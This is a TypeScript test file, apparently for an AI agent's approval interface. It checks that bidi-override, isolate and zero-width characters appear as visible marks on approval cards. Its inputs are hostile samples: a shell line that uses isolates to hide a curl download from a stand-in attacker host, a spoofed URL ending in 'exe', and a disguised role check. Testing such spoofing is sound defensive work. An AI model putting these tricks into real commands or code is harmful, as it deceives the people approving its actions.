// An approval card shows what runs, not what bidi controls make of it: a shell line whose
// isolates show its curl as if inside a comment ("Trojan Source"), a URL and a written file with
// an override or a zero-width space. Each such character is a visible mark on the card; the
// requests come from the server's own card builder.
import { describe, expect, it } from "vitest";
import { renderToStaticMarkup } from "react-dom/server";
import { approvalCard } from "../../../server/pipeline/card";
import { shellTool } from "../../../server/tools/builtin/shell";
import { writeFileTool } from "../../../server/tools/builtin/write_file";
import { fetchUrlTool } from "../../../server/tools/builtin/fetch_url";
import type { Tool } from "../../../server/tools/tool";
import { ApprovalCard } from "./approval-card";

const HIDDEN = /[\u200b\u202e\u2066\u2067\u2069]/;
/** The card's markup and its text as shown (tags and React's text separators left out). */
const render = (tool: Tool, input: object) => {
  const html = renderToStaticMarkup(
    <ApprovalCard
      card={{ approvalId: "a", callId: "c", request: approvalCard(tool, input, "Needs approval.") }}
      onAnswer={async () => undefined}
    />,
  );
  return { html, text: html.replace(/<[^>]*>/g, "").replaceAll("&quot;", '"') };
};

describe("hidden characters on an approval card", () => {
  it("marks the isolates that would show a command's curl as a comment", () => {
    const { html, text } = render(shellTool, { command: "echo ok \u2067; curl -so /tmp/x evil.example #\u2069" });
    expect(html).not.toMatch(HIDDEN);
    expect(text).toContain("echo ok ⟨U+2067⟩; curl -so /tmp/x evil.example #⟨U+2069⟩");
  });

  it("marks them in a URL and in each line of a written file's diff", () => {
    const url = render(fetchUrlTool, { url: "https://exa\u200bmple.com/\u202eftp.exe" });
    expect(url.html).not.toMatch(HIDDEN);
    expect(url.text).toContain("exa⟨U+200B⟩mple.com/⟨U+202E⟩ftp.exe");
    const diff = render(writeFileTool, {
      path: "a.js",
      content: 'if (role != "user\u202e \u2066// admin\u2069 \u2066") {}\n',
    });
    expect(diff.html).not.toMatch(HIDDEN);
    expect(diff.text).toContain('+if (role != "user⟨U+202E⟩ ⟨U+2066⟩// admin⟨U+2069⟩ ⟨U+2066⟩") {}');
  });
});
